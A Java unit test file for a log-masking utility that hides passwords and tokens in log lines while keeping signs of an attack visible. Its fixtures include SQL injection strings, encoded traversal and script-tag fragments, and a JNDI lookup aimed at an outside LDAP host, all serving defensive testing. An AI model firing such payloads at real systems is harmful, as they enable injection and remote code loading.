package io.leukocyte.events;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

class AttackSignsTest {
  @Test
  void aMaskInALogLineKeepsTheSignsOfAnAttackAndNothingElse() {
    assertThat(Secrets.maskLine("GET /?password=hunter2&a=b")).isEqualTo("GET /?password=***&a=b");
    assertThat(Secrets.maskLine("GET /?password=hunter2%27%20or%201=1--&a=b"))
        .isEqualTo("GET /?password=***%27%20or%201=1***&a=b");
    assertThat(Secrets.maskLine("GET /?token=x%2527%2520OR%2520y HTTP/1.1"))
        .isEqualTo("GET /?token=***%2527%2520OR%2520*** HTTP/1.1");
    assertThat(Secrets.maskLine("password: ab${jndi:ldap://203.0.113.9/secret}"))
        .isEqualTo("password: ***${jndi:***");
    assertThat(Secrets.maskLine("pwd=a..%c0%afb%u003cscript%u003ec"))
        .isEqualTo("pwd=***..%c0%af***%u003cscript***");
    assertThat(Secrets.maskLine("\"password\":\"x' or '1'='1\""))
        .isEqualTo("\"password\":\"***' or '1'='1\"");
    assertThat(Secrets.maskLine("Cookie: id=abc<ScRiPt>d")).isEqualTo("Cookie: ***<ScRiPt***");
  }

  @Test
  void otherTextsAreMaskedWhole() {
    assertThat(Secrets.mask("password=hunter2%27%20or%201=1--")).isEqualTo("password=***");
    assertThat(Secrets.mask(List.of("--password", "' or 1=1")))
        .containsExactly("--password", "***");
  }

  /** Of letters and digits no two survive, wherever percent signs and quotes stand between them. */
  @Test
  void whatIsNoSignIsNeverShown() {
    Random random = new Random(3);
    String alphabet = "kqz79%%%2u+'=/<(${;. ";
    for (int i = 0; i < 20_000; i++) {
      StringBuilder value = new StringBuilder("kq");
      for (int k = random.nextInt(20); k > 0; k--) {
        char c = alphabet.charAt(random.nextInt(alphabet.length()));
        value.append(c == ' ' || c == ';' || c == '\'' ? '9' : c);
      }
      value.append("zk");
      String masked = Secrets.maskLine("a=1&password=" + value + "&b=2");
      assertThat(masked).startsWith("a=1&password=***").endsWith("***&b=2");
      assertThat(masked.substring(13)).doesNotContainPattern("[kqz7]");
    }
  }
}
